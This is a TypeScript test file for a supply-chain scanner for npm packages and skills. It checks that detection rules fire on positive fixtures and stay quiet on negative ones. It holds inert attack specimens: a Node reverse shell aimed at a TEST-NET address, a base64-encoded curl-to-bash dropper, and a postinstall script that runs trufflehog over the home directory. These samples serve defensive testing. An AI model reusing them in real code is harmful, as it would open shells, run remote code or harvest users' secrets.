/**
 * One table-driven test over fixtures/rules/**: every `ruleid:` annotation must produce a finding of that
 * rule on the next code line, every `ok:` annotation must not, and every rule needs both kinds of case.
 */
import fs from 'node:fs';
import path from 'node:path';
import os from 'node:os';
import { afterAll, describe, expect, it } from 'vitest';
import { inspectFileText, loadRules } from '../../src/inspect/index.js';
import { inspectTarget, type TargetOptions } from '../../src/inspect/target.js';
import { inspectAsNobody, isRoot } from './as-nobody.js';

const root = path.resolve(import.meta.dirname, '../../fixtures/rules');
/**
 * Rules whose evidence cannot live in an annotated text file (binaries, links, caps, unreadable files, registry
 * manifests): each gets a positive and a negative package built here and inspected as a directory. An entry
 * that stops producing its rule (or starts producing it on the negative side) fails like any fixture.
 */
interface PackageCase {
  files: Record<string, string | Buffer>;
  target?: 'package' | 'skill';
  options?: Partial<TargetOptions>;
  /** Run after the files are written (links, modes). */
  prepare?(dir: string): void;
  /** Inspect as a user who cannot read what `prepare` locked (root reads everything). */
  asNobody?: boolean;
  /** Count only findings at medium or above (a case whose negative keeps the finding, lowered to low). */
  atLeastMedium?: boolean;
}
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]);
/** A WebAssembly module header (magic, version 1) and an empty type section. */
const WASM = Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, 0x01, 0x01, 0x00]);
const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64)]);
const TGZ = Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0, 0x03, 0, 0]);
const pkg = (extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'case', version: '1.0.0', main: 'index.js', ...extra });
const JS = 'module.exports = 1;\n';
/** A reverse shell's shape, aimed at TEST-NET (inert: never run). */
const REVERSE_SHELL = "var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\nvar c = new net.Socket();\nc.connect(4444, '192.0.2.10', function () { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n";
/** base64 of `/bin/bash -c "$(curl -fsSL http://192.0.2.5/i)"`, piped to a shell (inert: TEST-NET, never run). */
const B64_DROPPER = "echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzE5Mi4wLjIuNS9pKSI=' | base64 -D | bash";
const BIG = `${'var x = 1; // a line of real code, not padding\n'.repeat(3000)}`;
const PACKAGE_CASES: Record<string, { positive: PackageCase; negative: PackageCase }> = {
  // A package about a secret scanner (its name or description names it) names it in its prompts and flags; a worm runs one.
  'threat-install-worm': {
    positive: { files: { 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'index.js': JS, 'setup.js': "const { execSync } = require('child_process');\nconst found = execSync('trufflehog filesystem ' + require('os').homedir() + ' --json');\n" } },
    negative: { files: { 'package.json': pkg({ name: 'gitleaks-hooks', description: 'Installs gitleaks and a pre-commit hook that runs it', scripts: { postinstall: 'node setup.js' } }), 'index.js': JS, 'setup.js': "const args = process.argv.slice(2);\nconst version = args.includes('--gitleaks-version') ? args[args.indexOf('--gitleaks-version') + 1] : '8.18.4';\nmodule.exports = { report: 'gitleaks-report.html', version };\n" } },
  },
  'package-bundled-executable': { positive: { files: { 'package.json': pkg(), 'index.js': JS, 'bin/tool': ELF } }, negative: { files: { 'package.json': pkg(), 'index.js': JS, 'bin/tool': '#!/bin/sh\necho ok\n' } } },
  'package-bundled-executable-install': {
    positive: { files: { 'package.json': pkg({ scripts: { postinstall: 'chmod +x bin/tool && ./bin/tool' } }), 'index.js': JS, 'bin/tool': ELF } },
    negative: { files: { 'package.json': pkg(), 'index.js': JS, 'bin/tool': ELF } },
  },
  'package-native-addon': { positive: { files: { 'package.json': pkg(), 'index.js': JS, 'build/addon.node': ELF } }, negative: { files: { 'package.json': pkg(), 'index.js': JS } } },
  // A WebAssembly module is its own finding, not an opaque binary; a PNG is not a module.
  'package-wasm-module': { positive: { files: { 'package.json': pkg(), 'index.js': JS, 'pkg/mod_bg.wasm': WASM } }, negative: { files: { 'package.json': pkg(), 'index.js': JS, 'logo.png': PNG } } },
  'package-binary-file': { positive: { files: { 'package.json': pkg(), 'index.js': JS, 'logo.png': PNG } }, negative: { files: { 'package.json': pkg(), 'index.js': JS, 'logo.svg': '<svg/>' } } },
  'package-file-too-large': {
    positive: { files: { 'package.json': pkg(), 'index.js': JS, 'docs/big.js': BIG }, options: { maxFileBytes: 64 * 1024 } },
    negative: { files: { 'package.json': pkg(), 'index.js': JS, 'docs/big.js': BIG } },
  },
  'package-uninspected-code': {
    // Over the cap and holding what a whole-file parse is for (a spawn): a gap where it runs.
    positive: { files: { 'package.json': pkg(), 'index.js': `const cp = require('child_process');\n${BIG}` }, options: { maxFileBytes: 64 * 1024 } },
    negative: { files: { 'package.json': pkg(), 'index.js': JS, 'docs/big.js': BIG }, options: { maxFileBytes: 64 * 1024 } },
  },
  'package-padded-file': { positive: { files: { 'package.json': pkg(), 'index.js': JS + ' '.repeat(400_000) } }, negative: { files: { 'package.json': pkg(), 'index.js': JS + ' '.repeat(1000) } } },
  'package-nested-archive': { positive: { files: { 'package.json': pkg(), 'index.js': JS, 'vendor/x.tgz': TGZ } }, negative: { files: { 'package.json': pkg(), 'index.js': JS } } },
  'package-symlink': { positive: { files: { 'package.json': pkg(), 'index.js': JS }, prepare: (d) => fs.symlinkSync('index.js', path.join(d, 'alias.js')) }, negative: { files: { 'package.json': pkg(), 'index.js': JS } } },
  'package-npmrc': { positive: { files: { 'package.json': pkg(), 'index.js': JS, '.npmrc': 'registry=https://registry.example.com/\n' } }, negative: { files: { 'package.json': pkg(), 'index.js': JS } } },
  'package-binding-gyp': { positive: { files: { 'package.json': pkg(), 'index.js': JS, 'binding.gyp': '{ "targets": [] }' } }, negative: { files: { 'package.json': pkg(), 'index.js': JS } } },
  'package-manifest-confusion': {
    positive: { files: { 'package.json': pkg({ dependencies: { a: '1.0.0' } }), 'index.js': JS }, options: { registryManifest: { name: 'case', version: '1.0.0', dependencies: {} } } },
    negative: { files: { 'package.json': pkg({ dependencies: { a: '1.0.0' } }), 'index.js': JS }, options: { registryManifest: { name: 'case', version: '1.0.0', dependencies: { a: '1.0.0' } } } },
  },
  'package-manifest-confusion-scripts': {
    positive: { files: { 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'index.js': JS, 'setup.js': JS }, options: { registryManifest: { name: 'case', version: '1.0.0' } } },
    negative: { files: { 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'index.js': JS, 'setup.js': JS }, options: { registryManifest: { name: 'case', version: '1.0.0', scripts: { postinstall: 'node setup.js' } } } },
  },
  'package-unreadable-file': {
    positive: { files: { 'package.json': pkg(), 'index.js': JS, 'docs/notes.txt': 'notes' }, prepare: (d) => fs.chmodSync(path.join(d, 'docs/notes.txt'), 0), asNobody: true },
    negative: { files: { 'package.json': pkg(), 'index.js': JS, 'docs/notes.txt': 'notes' }, asNobody: true },
  },
  // A scanner's test fixture that nothing runs is a specimen; the same file required by the package's entry runs.
  'threat-socket-shell': {
    positive: { files: { 'package.json': pkg(), 'index.js': "require('./test/fixtures/shell.js');\n", 'test/fixtures/shell.js': REVERSE_SHELL } },
    negative: { files: { 'package.json': pkg(), 'index.js': JS, 'test/fixtures/shell.js': REVERSE_SHELL }, atLeastMedium: true },
  },
  // A rule pack's encoded specimens in a list its key labels as examples, over several lines, are matched, not run.
  'threat-decoded-payload-behaviour': {
    positive: { files: { 'package.json': pkg(), 'index.js': JS, 'rules/pack.json': `{\n  "rules": [],\n  "payloads": [\n    "${B64_DROPPER}"\n  ]\n}\n` } },
    negative: { files: { 'package.json': pkg(), 'index.js': JS, 'rules/pack.json': `{\n  "rules": [],\n  "examples": [\n    "${B64_DROPPER}"\n  ]\n}\n` } },
  },
  'skill-frontmatter-invalid': {
    positive: { target: 'skill', files: { 'SKILL.md': '---\nname: [unclosed\n---\nHello.\n' } },
    negative: { target: 'skill', files: { 'SKILL.md': '---\nname: fine\ndescription: ok\n---\nHello.\n' } },
  },
};
const caseTmp = fs.mkdtempSync(path.join(os.tmpdir(), 'clawguard-rulecases-'));
fs.chmodSync(caseTmp, 0o755);
afterAll(() => fs.rmSync(caseTmp, { recursive: true, force: true }));

function runCase(name: string, c: PackageCase): string[] {
  const dir = path.join(caseTmp, name);
  for (const [rel, body] of Object.entries(c.files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true, mode: 0o755 });
    fs.writeFileSync(path.join(dir, rel), body, { mode: 0o644 });
  }
  c.prepare?.(dir);
  const target = c.target ?? 'package';
  const findings = c.asNobody && isRoot ? inspectAsNobody(dir, target, c.options) : inspectTarget(dir, loadRules(), { target, ...c.options }).findings;
  return findings.filter((f) => !c.atLeastMedium || ['critical', 'high', 'medium'].includes(f.severity)).map((f) => f.ruleId);
}

interface Annotation {
  file: string;
  kind: 'ruleid' | 'ok';
  ruleId: string;
  line: number;
  annotationLine: number;
}

const ANNOTATION = /^\s*(?:\/\/|#|<!--)\s*(ruleid|ok):\s*([\w\s,-]+?)\s*(?:-->)?\s*$/;

function listFixtureFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) return listFixtureFiles(p);
    return e.name === 'README.md' && dir === root ? [] : [p];
  });
}

function annotationsOf(file: string, text: string): Annotation[] {
  const lines = text.split('\n');
  const out: Annotation[] = [];
  let pending: Array<Omit<Annotation, 'line'>> = [];
  lines.forEach((l, i) => {
    const m = ANNOTATION.exec(l);
    if (m) {
      for (const id of m[2].split(',').map((s) => s.trim()).filter(Boolean)) pending.push({ file, kind: m[1] as 'ruleid' | 'ok', ruleId: id, annotationLine: i + 1 });
      return;
    }
    if (pending.length && l.trim() !== '') {
      out.push(...pending.map((p) => ({ ...p, line: i + 1 })));
      pending = [];
    }
  });
  return out;
}

/** The fixture text as the engine must judge it: annotation lines blanked, so no annotation can change a verdict. */
function withoutAnnotations(text: string): string {
  return text
    .split('\n')
    .map((l) => (ANNOTATION.test(l) ? '' : l))
    .join('\n');
}

const files = listFixtureFiles(root);
const rules = loadRules();
const ruleIds = new Set(rules.map((r) => r.id));
// Stage rules (emittedBy) are emitted by their stage, not matched from text: test/inspect/stage-rules.test.ts.
const matchedRuleIds = new Set(rules.filter((r) => r.match).map((r) => r.id));
const all: Annotation[] = [];

describe('annotated rule fixtures', () => {
  for (const abs of files) {
    const rel = path.relative(root, abs).split(path.sep).join('/');
    const text = fs.readFileSync(abs, 'utf8');
    const annotations = annotationsOf(rel, text);
    all.push(...annotations);
    it(rel, () => {
      expect(annotations.length, `${rel} has no annotations`).toBeGreaterThan(0);
      const installTime = /fixture: install-time/.test(text.slice(0, 300));
      const target = /fixture: skill/.test(text.slice(0, 300)) || /\.md$/i.test(rel) ? 'skill' : 'package';
      // The engine never sees the annotations: each annotation line is blanked (line numbers stay right).
      const { findings } = inspectFileText(path.basename(rel), withoutAnnotations(text), { installTime, target });
      const problems: string[] = [];
      for (const a of annotations) {
        if (!ruleIds.has(a.ruleId)) problems.push(`${rel}:${a.annotationLine} names unknown rule ${a.ruleId}`);
        const hit = findings.some((f) => f.ruleId === a.ruleId && f.line === a.line);
        if (a.kind === 'ruleid' && !hit) problems.push(`${rel}:${a.line} expected ${a.ruleId}; got at that line: [${findings.filter((f) => f.line === a.line).map((f) => f.ruleId).join(', ')}]`);
        if (a.kind === 'ok' && hit) problems.push(`${rel}:${a.line} must not match ${a.ruleId}`);
      }
      expect(problems).toEqual([]);
    });
  }

  for (const [id, c] of Object.entries(PACKAGE_CASES)) {
    it(`package case: ${id}`, () => {
      expect(ruleIds.has(id), `${id} is not a rule`).toBe(true);
      expect(runCase(`${id}-positive`, c.positive)).toContain(id);
      expect(runCase(`${id}-negative`, c.negative)).not.toContain(id);
    });
  }

  it('every rule has a positive and a negative case', () => {
    const missing: string[] = [];
    for (const id of matchedRuleIds) {
      if (id in PACKAGE_CASES) continue;
      if (!all.some((a) => a.ruleId === id && a.kind === 'ruleid')) missing.push(`${id}: no ruleid case`);
      if (!all.some((a) => a.ruleId === id && a.kind === 'ok')) missing.push(`${id}: no ok case`);
    }
    expect(missing).toEqual([]);
  });
});
